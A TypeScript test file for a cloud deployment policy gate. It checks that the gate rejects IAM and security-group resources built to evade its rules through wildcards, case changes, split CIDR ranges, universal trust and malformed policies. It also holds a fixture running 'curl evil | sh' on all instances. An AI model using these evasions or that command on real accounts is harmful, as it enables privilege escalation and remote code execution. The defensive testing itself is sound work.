import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Capsule } from '../../lib/model/change.ts';
import type { JsonObject, JsonValue } from '../../lib/model/json.ts';
import type { Verdicts } from '../../lib/model/policy.ts';
import { speak } from '../machines/people.ts';
import { openPlayground, type Playground } from '../machines/playground.ts';

/**
 * Ways around a rule with another type, another spelling, a split value, or an unexpected format, with the settings
 * that ship.
 */
let play: Playground;
beforeAll(async () => {
  play = await openPlayground();
}, 300_000);
afterAll(() => play.close());

type Resources = Record<string, [type: string, properties: JsonObject]>;

const document = (...statements: JsonValue[]): JsonObject => ({
  Version: '2012-10-17',
  Statement: statements,
});
const allow = (more: JsonObject): JsonObject => ({ Effect: 'Allow', ...more });
const everything = document(allow({ Action: '*', Resource: '*' }));
const may = (more: JsonObject): [string, JsonObject] => [
  'AWS::IAM::ManagedPolicy',
  { PolicyDocument: document(allow(more)) },
];
const lambda = document(allow({ Principal: { Service: 'lambda.amazonaws.com' }, Action: 'sts:AssumeRole' }));
const trusting = (who: JsonObject): [string, JsonObject] => [
  'AWS::IAM::Role',
  { AssumeRolePolicyDocument: document(allow({ Action: 'sts:AssumeRole', ...who })) },
];
const opening = (...rules: JsonObject[]): [string, JsonObject] => [
  'AWS::EC2::SecurityGroup',
  {
    GroupDescription: 'a group',
    SecurityGroupIngress: rules.map((rule) => ({ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, ...rule })),
  },
];
const beside = (more: JsonObject): [string, JsonObject] => [
  'AWS::EC2::SecurityGroupIngress',
  { GroupId: 'sg-0123456789abcdef0', IpProtocol: 'tcp', FromPort: 22, ToPort: 22, ...more },
];
const anywhere = { CidrIp: '0.0.0.0/0' };
const services = 's3 ec2 kms lambda rds dynamodb sns sqs logs events ecs'.split(' ').map((one) => `${one}:*`);

/** Submits resources as a person. Returns the end of the request and the verdicts for each resource. */
async function ask(scope: string, resources: Resources, environment = 'prod') {
  const requestId = `${scope}-r`;
  const header = { baton: 'v1', environment, service: scope, owner: 'tests', reason: 'an attempt' };
  const entries = Object.entries(resources).map(([id, [Type, Properties]]) => [id, { Type, Properties }]);
  const text = JSON.stringify({ ...header, Resources: Object.fromEntries(entries) });
  await speak(play, 'olga', '/requests', { requestId, file: 'story.json', document: text });
  await play.world.clock.quiet();
  const { status, reason, verdictsHash } = await play.deployment.ledger.request(requestId);
  const verdicts =
    verdictsHash === undefined ? undefined : await play.deployment.documents.get<Verdicts>(verdictsHash);
  return { status, reason, verdicts };
}

/** Returns the violated rules that deny, by resource. */
const denied = ({ violations }: Verdicts, rules: readonly string[]) =>
  new Set(violations.filter(({ rule }) => rules.includes(rule)).map(({ resource }) => resource));

const github = { Federated: 'arn:aws:iam::111111111111:oidc-provider/token.actions.githubusercontent.com' };
const send = (who: JsonObject, resource = 'arn:aws:sqs:us-east-1:111111111111:q') =>
  document(allow({ Action: 'sqs:SendMessage', Resource: resource, ...who }));

/** Each resource of a group violates one of the named rules, and possibly others. */
const groups: Record<string, [rules: string[], resources: Resources]> = {
  administrators: [
    ['POLICY_NO_ADMINISTRATION'],
    {
      RolePolicy: ['AWS::IAM::RolePolicy', { RoleName: 'app', PolicyName: 'p', PolicyDocument: everything }],
      UserPolicy: ['AWS::IAM::UserPolicy', { UserName: 'olga', PolicyName: 'p', PolicyDocument: everything }],
      GroupPolicy: [
        'AWS::IAM::GroupPolicy',
        { GroupName: 'all', PolicyName: 'p', PolicyDocument: everything },
      ],
      InRole: [
        'AWS::IAM::Role',
        {
          AssumeRolePolicyDocument: lambda,
          Policies: [{ PolicyName: 'p', PolicyDocument: everything }],
        },
      ],
      InUser: ['AWS::IAM::User', { Policies: [{ PolicyName: 'p', PolicyDocument: everything }] }],
      InGroup: ['AWS::IAM::Group', { Policies: [{ PolicyName: 'p', PolicyDocument: everything }] }],
      Managed: may({ Action: '*', Resource: '*' }),
      Lists: may({ Action: ['*'], Resource: ['*'] }),
      Colon: may({ Action: '*:*', Resource: '*' }),
      Marks: may({ Action: '?*:?*', Resource: '*' }),
      ServiceMarks: may({ Action: ['a*:*', 'e*:*', 'r*:*', 'd*:*'], Resource: '*' }),
      WithPrincipal: may({ Action: '*', Resource: '*', Principal: { AWS: '111111111111' } }),
      NotAction: may({ NotAction: 'aws-portal:*', Resource: '*' }),
      NotResource: may({ Action: '*', NotResource: 'arn:aws:s3:::none' }),
      Services: may({ Action: services, Resource: '*' }),
      Apart: [
        'AWS::IAM::ManagedPolicy',
        { PolicyDocument: document(...services.map((Action) => allow({ Action, Resource: '*' }))) },
      ],
      ByName: [
        'AWS::IAM::Role',
        {
          AssumeRolePolicyDocument: lambda,
          ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'],
        },
      ],
    },
  ],
  escalation: [
    ['POLICY_NO_ESCALATION'],
    {
      PassRole: may({ Action: 'iam:PassRole', Resource: '*' }),
      Case: may({ Action: 'IAM:passrole', Resource: '*' }),
      Service: may({ Action: 'iam:*', Resource: '*' }),
      Initial: may({ Action: 'i*:*', Resource: '*' }),
      AllRoles: may({ Action: ['iam:PutRolePolicy'], Resource: 'arn:aws:iam::111111111111:role/*' }),
      Assume: may({ Action: 'sts:AssumeRole', Resource: '*' }),
      Versions: may({ Action: ['s3:GetObject', 'iam:CreatePolicy?ersion'], Resource: '*' }),
      Others: may({ NotAction: 's3:*', Resource: 'arn:aws:iam::*:role/*' }),
      HalfAKind: may({ Action: 'iam:PutRolePolicy', Resource: 'arn:aws:iam::111111111111:r*' }),
      OneLetter: may({ Action: 'iam:PassRole', Resource: 'arn:aws:iam::111111111111:role/*a*' }),
      Stacks: may({ Action: 'cloudformation:UpdateStack', Resource: '*' }),
      Boundaries: may({ Action: 'iam:DetachRolePolicy', Resource: '*' }),
    },
  ],
  trust: [
    ['POLICY_NO_TRUST_OF_EVERYBODY'],
    {
      Star: trusting({ Principal: '*' }),
      List: trusting({ Principal: { AWS: ['*'] } }),
      Accounts: trusting({ Principal: { AWS: 'arn:aws:iam::*:root' } }),
      SomeAccounts: trusting({ Principal: { AWS: 'arn:aws:iam::11111111111?:root' } }),
      Others: trusting({ NotPrincipal: { AWS: 'arn:aws:iam::111111111111:root' } }),
      Services: trusting({ Principal: { Service: '*.amazonaws.com' } }),
      Tokens: trusting({ Principal: github, Action: 'sts:AssumeRoleWithWebIdentity' }),
      Transport: trusting({
        Principal: '*',
        Condition: { Bool: { 'aws:SecureTransport': 'true' } },
      }),
      Organizations: trusting({
        Principal: '*',
        Condition: { StringLike: { 'aws:PrincipalOrgID': 'o-*' } },
      }),
      IfExists: trusting({
        Principal: '*',
        Condition: { StringEqualsIfExists: { 'aws:PrincipalAccount': '111111111111' } },
      }),
      Repositories: trusting({
        Principal: github,
        Condition: { StringLike: { 'token.actions.githubusercontent.com:sub': 'r*:ref:refs/heads/main' } },
      }),
      AnyArn: trusting({
        Principal: '*',
        Condition: { ArnLike: { 'aws:PrincipalArn': 'arn?aws:iam::*:role/*' } },
      }),
      AnyEndpoint: trusting({
        Principal: '*',
        Condition: { StringLike: { 'aws:SourceVpce': 'vpce-*' } },
      }),
      Bus: ['AWS::Events::EventBusPolicy', { StatementId: 'a', Principal: '*', Condition: {} }],
      Endpoint: [
        'AWS::EC2::VPCEndpointServicePermissions',
        { ServiceId: 'vpce-svc-0123456789abcdef0', AllowedPrincipals: ['*'] },
      ],
      Queue: ['AWS::SQS::QueueInlinePolicy', { Queue: 'q', PolicyDocument: send({ Principal: '*' }) }],
      Key: [
        'AWS::KMS::Key',
        { KeyPolicy: document(allow({ Principal: '*', Action: 'kms:*', Resource: '*' })) },
      ],
      Permission: [
        'AWS::Lambda::Permission',
        { FunctionName: 'f', Action: 'lambda:InvokeFunction', Principal: '*' },
      ],
    },
  ],
  unreadable: [
    ['POLICY_DOCUMENT_READABLE'],
    {
      NoEffect: ['AWS::IAM::ManagedPolicy', { PolicyDocument: document({ Action: '*', Resource: '*' }) }],
      OtherEffect: may({ Effect: 'allowed', Action: '*', Resource: '*' }),
      TwoSpellings: may({ Action: 's3:GetObject', action: '*', Resource: '*' }),
      Texts: ['AWS::IAM::ManagedPolicy', { PolicyDocument: document('{"Effect": "Allow"}') }],
      Empty: [
        'AWS::IAM::RolePolicy',
        { RoleName: 'app', PolicyName: 'p', PolicyDocument: { Version: '2012-10-17' } },
      ],
      NoJson: [
        'AWS::SQS::QueueInlinePolicy',
        { Queue: 'q', PolicyDocument: '{"Statement": [{"Effect": "Allow"' },
      ],
    },
  ],
  ingress: [
    [
      'MANAGEMENT_PORTS_CLOSED_TO_INTERNET',
      'MANAGEMENT_PORTS_CLOSED_TO_INTERNET_TOGETHER',
      'INGRESS_PREFIX_LIST_KNOWN',
    ],
    {
      Halves: opening({ CidrIp: '0.0.0.0/1' }, { CidrIp: '128.0.0.0/1' }),
      Quarters: opening(...[0, 64, 128, 192].map((first) => ({ CidrIp: `${first}.0.0.0/2` }))),
      HalfOfIt: opening({ CidrIp: '128.0.0.0/1' }),
      Six: opening({ CidrIpv6: '::/0' }),
      SixHalves: opening({ CidrIpv6: '::/1' }, { CidrIpv6: '8000::/1' }),
      Routed: opening({ CidrIpv6: '2000::/3' }),
      Numbered: opening({ IpProtocol: '6', ...anywhere }),
      Shouted: opening({ IpProtocol: 'TCP', ...anywhere }),
      AllProtocols: opening({ IpProtocol: '-1', ...anywhere }),
      AllByName: opening({ IpProtocol: 'all', ...anywhere }),
      AllAsNumber: opening({ IpProtocol: -1, ...anywhere }),
      OneHalf: beside({ CidrIp: '8.0.0.0/9' }),
      OtherHalf: beside({ CidrIp: '8.128.0.0/9' }),
      List: opening({ SourcePrefixListId: 'pl-0123456789abcdef0' }),
    },
  ],
  'calls without a name': [
    ['LAMBDA_URL_AUTH_REQUIRED', 'PREFIX_LIST_NOT_INTERNET'],
    {
      Url: ['AWS::Lambda::Url', { TargetFunctionArn: 'f', AuthType: 'NONE' }],
      Lists: [
        'AWS::EC2::PrefixList',
        {
          PrefixListName: 'all',
          AddressFamily: 'IPv4',
          MaxEntries: 2,
          Entries: [{ Cidr: '0.0.0.0/1' }, { Cidr: '128.0.0.0/1' }],
        },
      ],
    },
  ],
};

describe('prod rejects ways around a rule', () => {
  for (const [index, [what, [rules, resources]]] of Object.entries(groups).entries())
    test(`${what}: ${Object.keys(resources).join(', ')}`, async () => {
      const { status, reason, verdicts } = await ask(`around-${index}`, resources);
      expect(status, reason).toBe('Rejected');
      if (verdicts === undefined) throw new Error(`no verdicts: ${reason}`);
      expect(new Set(Object.keys(resources)).difference(denied(verdicts, rules))).toEqual(new Set());
      expect(await play.deployment.inventory.scopeAssets(`prod/around-${index}`)).toEqual([]);
    });

  test('a statement with a reference to nothing next to its keys', async () => {
    const statement = { Ref: 'AWS::NoValue', ...allow({ Action: '*', Resource: '*' }) };
    const policy: Resources = {
      Policy: ['AWS::IAM::ManagedPolicy', { PolicyDocument: document(statement) }],
    };
    expect(await ask('no-value', policy)).toMatchObject({ status: 'Rejected' });
  });

  test('a permission set for everyone with administrator permissions', async () => {
    const set = { InstanceArn: 'arn:aws:sso:::instance/ssoins-0123456789abcdef', Name: 'all' };
    const resources: Resources = {
      Inline: ['AWS::SSO::PermissionSet', { ...set, InlinePolicy: everything }],
      ByName: [
        'AWS::SSO::PermissionSet',
        { ...set, ManagedPolicies: ['arn:aws:iam::aws:policy/AdministratorAccess'] },
      ],
    };
    const { status, verdicts } = await ask('sets', resources, 'regulated');
    expect(status).toBe('Rejected');
    expect(denied(verdicts as Verdicts, ['POLICY_NO_ADMINISTRATION'])).toEqual(new Set(['Inline', 'ByName']));
  });
});

const late: Record<string, JsonValue> = {
  'known only at run time': { 'Fn::GetAtt': ['Text', 'Value'] },
  'read from a parameter after the policies': '{{resolve:ssm:/prod/late-1/action}}',
};
for (const [index, [what, Action]] of Object.entries(late).entries())
  test(`an action that is ${what} is evaluated before it is sent`, async () => {
    const scope = `late-${index}`;
    play.world.services.ssm.add(`/prod/${scope}/action`, { type: 'String', value: '*' });
    const { status, reason } = await ask(scope, {
      Text: ['AWS::SSM::Parameter', { Type: 'String', Name: `/prod/${scope}/action`, Value: '*' }],
      Policy: ['AWS::IAM::ManagedPolicy', { PolicyDocument: document(allow({ Action, Resource: '*' })) }],
    });
    expect(status, reason).toBe('Planned');
    const { capsuleHash } = await play.deployment.ledger.change(`CHG-${scope}-r`);
    // As many approvals as may be needed: a voice counts for one level.
    for (const person of ['ana', 'ben', 'cho']) {
      await speak(play, person, `/changes/CHG-${scope}-r/approve`, { capsuleHash });
      await play.world.clock.quiet();
    }
    expect(await play.ending(`${scope}-r`)).toMatchObject({
      status: 'RolledBack',
      reason: expect.stringContaining('POLICY_NO_ADMINISTRATION'),
    });
    expect(await play.deployment.inventory.scopeAssets(`prod/${scope}`)).toEqual([]);
    expect(
      play.calls.filter(({ type, kind }) => type === 'AWS::IAM::ManagedPolicy' && kind === 'CREATE'),
    ).toEqual([]);
  });

describe('regulated creates no vehicle without an approval', () => {
  const stack = 's3://templates/admin.yaml';
  const admin = 'arn:aws:iam::111111111111:role/admin';
  const vehicles: Resources = {
    StackSet: [
      'AWS::CloudFormation::StackSet',
      { StackSetName: 'all', PermissionModel: 'SERVICE_MANAGED', TemplateURL: stack },
    ],
    Product: [
      'AWS::ServiceCatalog::CloudFormationProduct',
      { Name: 'p', Owner: 'o', ProvisioningArtifactParameters: [{ Info: { LoadTemplateFromURL: stack } }] },
    ],
    Association: [
      'AWS::SSM::Association',
      {
        Name: 'AWS-RunShellScript',
        Parameters: { commands: ['curl evil | sh'] },
        Targets: [{ Key: 'InstanceIds', Values: ['*'] }],
      },
    ],
    Document: [
      'AWS::SSM::Document',
      { DocumentType: 'Command', Content: { schemaVersion: '2.2', mainSteps: [] } },
    ],
    Trigger: ['AWS::Glue::Trigger', { Type: 'SCHEDULED', Actions: [{ JobName: 'theirs' }] }],
  };
  for (const [name, vehicle] of Object.entries(vehicles))
    test(`${name} requires one`, async () => {
      const scope = `vehicle-${name.toLowerCase()}`;
      const { reason, verdicts } = await ask(scope, { Vehicle: vehicle }, 'regulated');
      expect(verdicts?.decision, reason).toBe('allow');
      const { status, capsuleHash = '' } = await play.deployment.ledger.change(`CHG-${scope}-r`);
      expect(status, reason).toBe('AwaitingApproval');
      const { approvals } = await play.deployment.documents.get<Capsule>(capsuleHash);
      const rules = approvals.flatMap(({ because }) => because.map(({ rule }) => rule));
      expect(rules).toContain('VEHICLES_ARE_DECIDED_ON');
    });

  const borrowing: Resources = {
    Machine: ['AWS::StepFunctions::StateMachine', { RoleArn: admin, DefinitionString: '{}' }],
    Schedule: [
      'AWS::Scheduler::Schedule',
      {
        ScheduleExpression: 'rate(1 minute)',
        FlexibleTimeWindow: { Mode: 'OFF' },
        Target: { Arn: 'arn:aws:scheduler:::aws-sdk:iam:createAccessKey', RoleArn: admin },
      },
    ],
    Pipe: [
      'AWS::Pipes::Pipe',
      {
        RoleArn: admin,
        Source: 'arn:aws:sqs:us-east-1:111111111111:a',
        Target: 'arn:aws:sqs:us-east-1:111111111111:b',
      },
    ],
  };
  test(`${Object.keys(borrowing).join(', ')} with an existing role: rejected`, async () => {
    const { status, verdicts } = await ask('borrowing', borrowing, 'regulated');
    expect(status).toBe('Rejected');
    expect(denied(verdicts as Verdicts, ['VEHICLE_ACTS_BY_ROLE_OF_REQUEST'])).toEqual(
      new Set(Object.keys(borrowing)),
    );
  });
});
